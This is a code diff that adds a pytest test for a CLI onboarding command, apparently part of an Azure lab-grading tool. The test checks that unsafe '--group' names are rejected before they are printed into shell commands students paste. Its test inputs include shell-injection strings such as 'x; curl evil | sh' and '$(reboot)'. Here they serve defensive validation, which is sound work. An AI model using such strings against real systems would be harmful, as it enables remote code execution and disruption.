@@ -82,3 +82,20 @@ def test_onboard_prints_or_creates_the_evidence_app(local_azure, tmp_path):
     uri = made.stdout.split("--milab-evidence-audience ")[1].split()[0]
     app = local_azure.cloud.resource_application(uri)
     assert app is not None and uri == f"api://{app.app_id}" and app.display_name == "milab evidence"
+
+
+@pytest.mark.parametrize("group", ["lab.", "lab\n", "x; curl evil | sh", "$(reboot)", "a" * 91])
+def test_onboard_prints_no_group_azure_would_refuse(tmp_path, capsys, group):
+    """The group goes into commands the student pastes into a shell: only a valid name is
+    printed; anything else is one line on stderr, before the grader is looked up."""
+    from pytest_milab.cli import main
+
+    pub = tmp_path / "grader.pub"
+    pub.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGraderKey grader\n")
+    code = main(["onboard", "--suite", str(SUITE), "--public-key", str(pub),
+                 "--grader-object-id", "00000000-0000-0000-0000-000000000009",
+                 "--group", group])
+    out, err = capsys.readouterr()
+    assert code == 2 and out == ""
+    assert err.startswith("milab onboard: --group ") and err.count("\n") == 1
+    assert "not a valid resource group name" in err
